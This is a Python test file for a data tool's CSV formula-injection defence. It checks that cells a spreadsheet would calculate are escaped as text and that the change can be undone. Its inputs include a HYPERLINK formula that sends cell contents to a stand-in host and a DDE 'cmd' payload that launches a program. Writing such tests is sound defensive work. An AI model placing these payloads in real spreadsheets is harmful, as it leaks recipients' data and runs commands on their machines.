"""What people open in a spreadsheet calculates nothing; what programs read stays as it was read."""

import csv
from pathlib import Path

import polars as pl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from datainsight.cli import main
from datainsight.reporting.spreadsheet import as_text
from datainsight.services.spreadsheet_frames import without_formulas

FORMULA = '=HYPERLINK("http://example.com?x="&A1,"here")'


@pytest.mark.parametrize(
    "cell",
    [
        FORMULA,
        "=1+1",
        "+41-44-123",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "－1+1",
        "＝1",
        "+cmd|' /C calc'!A0",
        "=\n",
        "-5\n",
    ],
)
def test_what_would_be_calculated_is_text(cell: str) -> None:
    assert as_text(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell", ["", "-5", "+3.25", "-1,234.50", "-.5", "-2e-7", "-12%", "-", "--", "a=b", " =1", "'=1", "12"]
)
def test_plain_numbers_and_signs_stay(cell: str) -> None:
    assert as_text(cell) == cell


@example(["=\n", "-5\n", "-\n1"])
@given(st.lists(st.text(alphabet="=+-@\t\r\n＝'. ,%eE019aé", max_size=6) | st.none(), max_size=8))
def test_both_engines_read_the_patterns_alike(cells: list[str | None]) -> None:
    frame = pl.DataFrame({"^=a$": pl.Series(cells, dtype=pl.String), "*": pl.Series(range(len(cells)))})
    shown = without_formulas(frame)
    assert shown.columns == ["^=a$", "*"]
    assert shown.to_series(0).to_list() == [None if each is None else as_text(each) for each in cells]


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.csv"
    rows = [
        [str(row), "Bern " if row % 2 else "Bern", FORMULA if row == 7 else f"n{row}"] for row in range(40)
    ]
    with path.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows([["id", "=city", "remark"], *rows, rows[7]])
    return path


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.reader(stream))


def test_a_cleaned_table_is_made_safe_where_that_is_asked_for(hostile: Path, tmp_path: Path) -> None:
    plain, safe, undo, back = (tmp_path / each for each in ("plain.csv", "safe.csv", "undo", "back.csv"))
    assert main(["clean", str(hostile), "-o", str(plain)]) == 0
    command = ["clean", str(hostile), "-o", str(safe), "--spreadsheet-safe", "--undo", str(undo)]
    assert main(command) == 0
    assert cells(plain)[0] == ["id", "=city", "remark"]
    assert cells(plain)[8][2] == FORMULA
    assert cells(safe) == [[as_text(cell) for cell in row] for row in cells(plain)]
    assert main(["undo", str(safe), "--undo", str(undo), "-o", str(back)]) == 0
    assert cells(back) == cells(hostile)


def test_the_files_for_people_are_always_safe(hostile: Path, tmp_path: Path) -> None:
    output, changes, quarantine = (tmp_path / f"{each}.csv" for each in ("cleaned", "changes", "quarantine"))
    command = ["clean", str(hostile), "-o", str(output), "--changes", str(changes)]
    assert main([*command, "--quarantine", str(quarantine)]) == 0
    assert {row[2] for row in cells(changes)[1:] if row[2]} == {"'=city"}
    taken_out = cells(quarantine)
    assert "'=city" in taken_out[0]
    assert any(f"'{FORMULA}" in row for row in taken_out[1:])


def test_a_parquet_file_is_no_spreadsheet(
    hostile: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["clean", str(hostile), "-o", str(tmp_path / "a.parquet"), "--spreadsheet-safe"]) == 2
    assert "Only CSV" in capsys.readouterr().err
